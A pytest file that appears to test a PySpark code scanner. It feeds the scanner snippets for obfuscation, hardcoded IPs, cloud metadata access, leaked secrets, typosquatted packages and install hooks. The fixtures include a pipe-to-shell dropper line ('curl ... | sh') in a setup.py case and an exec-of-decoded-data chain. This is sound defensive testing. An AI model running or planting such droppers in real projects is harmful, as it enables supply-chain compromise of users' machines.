import pytest

from assayer.functions import paths
from assayer.operators import dependencies, detectors, pyast
from pyspark.sql import functions as F

HEX = "\\x41"
#: (path, content, categories with severity)
CASES = [
    ("a.py", "x = 1", {}),
    ("a.py", None, {}),
    ("a.py", "exec(code)", {"obfuscation:eval_exec": "medium"}),
    ("a.cpp", "m.eval(); eval(x)", {}),
    ("b.py", "m.eval()", {}),
    ("c.py", f's = "{HEX * 8}"', {"obfuscation:hex_escape": "info"}),
    ("c2.py", f'exec(a); s = "{HEX * 8}"', {"obfuscation:eval_exec": "medium", "obfuscation:hex_escape": "medium"}),
    ("d.py", f's = "{HEX * 20}"', {"obfuscation:hex_escape": "info", "payload:shellcode": "high"}),
    ("tests/d.py", f's = "{HEX * 20}"', {"obfuscation:hex_escape": "info", "payload:shellcode": "medium"}),
    ("e.js", "String.fromCharCode(1); atob(x); var _0xabcd = 1;", {"obfuscation:fromcharcode": "medium", "obfuscation:atob": "medium", "obfuscation:js_obfusc": "medium", "obfuscation:combined": "high"}),
    ("f.py", "x = [" + '"a", ' * 6 + '"b"]', {"obfuscation:char_list_join": "high"}),
    ("g.py", '__import__("base64"); exec(x)', {"obfuscation:eval_exec": "medium", "obfuscation:dynamic_import": "medium", "obfuscation:import_exec_chain": "high"}),
    ("h.py", "zlib.decompress(\nbase64.b64decode(x))", {"obfuscation:nested_decode": "high"}),
    ("i.js", "︀" * 51, {"obfuscation:invisible_unicode": "high"}),
    ("i.json", "︀" * 51, {"obfuscation:invisible_unicode": "info"}),
    ("j.js", "︀" * 51 + "\neval(x)", {"obfuscation:eval_exec": "medium", "obfuscation:invisible_unicode": "critical"}),
    ("k.py", "import subprocess, socket", {"import:suspicious": "medium"}),
    ("l.py", 'u = "http://8.8.8.8/x"', {"import:hardcoded_ip": "high"}),
    ("tests/l.py", 'u = "http://8.8.8.8/x"', {"import:hardcoded_ip": "medium"}),
    ("m.py", 'u = "http://10.0.0.1/x"', {"import:hardcoded_ip": "medium"}),
    ("tests/m.py", 'u = "http://10.0.0.1/x"', {}),
    ("n.py", 'u = "http://169.254.169.254/x"', {"import:cloud_metadata": "high"}),
    ("o.c", 'connect(("8.8.4.4", 53))', {"import:hardcoded_ip": "high"}),
    ("p.py", "k = 0x" + "ab" * 20, {"crypto:eth_addr": "medium"}),
    ("q.py", 's = "' + "a b" * 200 + '"', {"payload:long_string": "medium"}),
    ("r.html", "data:image/png;base64,xx", {"payload:data_uri": "medium"}),
    ("s.py", "-----BEGIN RSA PRIVATE KEY-----", {"secret:private_key": "high"}),
    ("crypto/s.py", "-----BEGIN RSA PRIVATE KEY-----", {"secret:private_key": "info"}),
    ("t.py", "k = AKIA" + "A" * 16, {"secret:aws_key": "high"}),
    ("u.py", "password = 'abcdefghijabcdefghij1'", {"secret:api_key": "medium"}),
    ("v.py", "getattr(builtins, 'ev' + 'al')", {"obfuscation:indirect_exec:getattr_concat": "high"}),
    ("w.py", "getattr(builtins, name)", {"obfuscation:indirect_exec:getattr_builtins": "medium"}),
    ("x.js", "global[name]", {"obfuscation:indirect_exec:global_computed": "medium"}),
    ("setup.py", "curl http://x.example/i.sh | sh", {"supply_chain:install_dropper": "high"}),
    ("other.py", "curl http://x.example/i.sh | sh", {}),
]


@pytest.fixture(scope="module")
def found(spark):
    rows = spark.createDataFrame([(f"{i}/{p}", c) for i, (p, c, _) in enumerate(CASES)], "path string, content string")
    out = {i: {} for i in range(len(CASES))}
    for r in detectors.observations(rows).collect():
        out[int(r.path.split("/")[0])][r.category] = r.severity
    return out


@pytest.mark.parametrize("i", range(len(CASES)), ids=[f"{i}-{c[0]}" for i, c in enumerate(CASES)])
def test_case(found, i):
    assert found[i] == CASES[i][2]


def test_base64_blob(spark):
    import base64

    good, bad = base64.b64encode(b"readable text that is long enough to count!!").decode(), "A" * 41
    rows = spark.createDataFrame([("g.bin", good), ("b.bin", bad)], "path string, content string")
    assert [r.path for r in detectors.observations(rows).collect()] == ["g.bin"]


def test_classify(spark):
    names = [("x/a.PY", "source"), ("a.exe", "binary"), ("Makefile", "source"), ("c.yml", "config"), ("d.sh", "script"), ("e", "unknown"), (".env", "unknown")]
    rows = spark.createDataFrame([(n,) for n, _ in names], "path string").select("path", paths.classify(F.col("path")).alias("c"))
    assert {r.path: r.c for r in rows.collect()} == dict(names)
    magic = spark.createDataFrame([("a", bytearray(b"MZ..")), ("b", bytearray(b"#!/bin/x")), ("c", bytearray(b"zz"))], "path string, content binary")
    assert [r[0] for r in magic.orderBy("path").select(paths.classify(F.col("path"), F.col("content"))).collect()] == ["binary", "script", "unknown"]


def test_private_prefixes(spark):
    rows = spark.createDataFrame([("http://172.200.1.1", True), ("http://8.8.8.8", False), ("none", False), ("127.0.0.1", True)], "u string, want boolean")
    assert all(r.want == r.got for r in rows.select("want", paths.is_private_address(F.col("u")).alias("got")).collect())


def test_manifests(spark):
    files = [
        ("package.json", '{"dependencies": {"expres": "1", "lodash": "1"}, "devDependencies": {"jestt": "1"}, "scripts": {"postinstall": "node x.js", "test": "node y"}}'),
        ("broken/package.json", "{"),
        ("requirements.txt", "requets>=1\nnumpy\n# pandass\nflask[x]==2\n"),
    ]
    rows = spark.createDataFrame(files, "path string, content string")
    names = dependencies.manifest_names(rows)
    node = dependencies.typosquats(names.filter("ecosystem = 'node'"), dependencies.P.POPULAR_NODE)
    python = dependencies.typosquats(names.filter("ecosystem = 'python'"), dependencies.P.POPULAR_PYTHON)
    assert {(r.name, r.resembles) for r in node.collect()} == {("expres", "express"), ("jestt", "jest")}
    assert {(r.name, r.resembles) for r in python.collect()} == {("requets", "requests")}
    assert [(r.hook, r.command) for r in dependencies.hooks(rows).collect()] == [("postinstall", "node x.js")]


def test_trees(spark):
    code = {
        "fold.py": 'a = "".join(["s", "s", "h", "x"])\nb = chr(104) + "ello"\nc = bytes.fromhex("68656c6c6f").decode()\nd = ["a", "b", "c", "d"]\n',
        "plain.py": 'x = "abcd"\n',
        "broken.py": "def (",
        "net.py": "import socket, base64, atexit\nopen('x')\nsocket.connect(y)\nexec(z)\n",
        "home.py": "import os\nopen(os.path.expanduser('~'))\n",
        "n.js": "const http = require('http')",
    }
    files = spark.createDataFrame(list(code.items()), "path string, content string")
    t = {r.path: r for r in pyast.trees(files).collect()}
    assert t["fold.py"].folded == ["sshx", "hello", "abcd"] and t["plain.py"].folded == [] and not t["broken.py"].parses
    fp = pyast.fingerprints(files)
    caps = {r.path: set(r.capabilities) for r in fp.collect()}
    assert caps["net.py"] == {"imports_network", "imports_encoding", "network_calls", "atexit", "file_io", "exec"}
    assert caps["n.js"] == {"imports_network", "network_calls"} and caps["plain.py"] == set()
    odd = {(r.path, r.category) for r in pyast.unresolved(fp, detectors.observations(files)).collect()}
    assert {("net.py", f"unresolved:{k}") for k in ("exec_of_unknown", "callback_with_side_effects", "capability_cocktail")} <= odd
    assert ("home.py", "unresolved:path_construction") in odd
    assert "sshx" in {r.path: r.content for r in pyast.with_folded(files).collect()}["fold.py"]
    assert [r.path for r in pyast.folded_findings(files).collect()] == ["fold.py"]


def test_typosquats_against_plain_similarity(spark):
    """The cheap bounds leave out no name that the plain comparison finds."""
    import random
    from difflib import SequenceMatcher

    rnd, popular = random.Random(3), dependencies.P.POPULAR_PYTHON
    names = {"".join(rnd.choices("reqnumpyfls", k=rnd.randint(1, 9))) for _ in range(300)} | {"", "Flask", "a" * 200}
    for p in popular:
        for _ in range(12):
            t = list(p)
            for _ in range(rnd.randint(1, 3)):
                t[rnd.randrange(len(t))] = rnd.choice(["", "x", "e", "Z", t[0] * 2])
            names.add("".join(t))

    def plain(name):
        for known in popular:
            if name == known:
                return None
            if 0.75 < SequenceMatcher(None, name.lower(), known.lower()).ratio() < 1.0:
                return known
        return None

    want = {(n, plain(n)) for n in names if plain(n)}
    got = dependencies.typosquats(spark.createDataFrame([(n,) for n in names], "name string"), popular)
    assert {(r.name, r.resembles) for r in got.collect()} == want and len(want) > 50
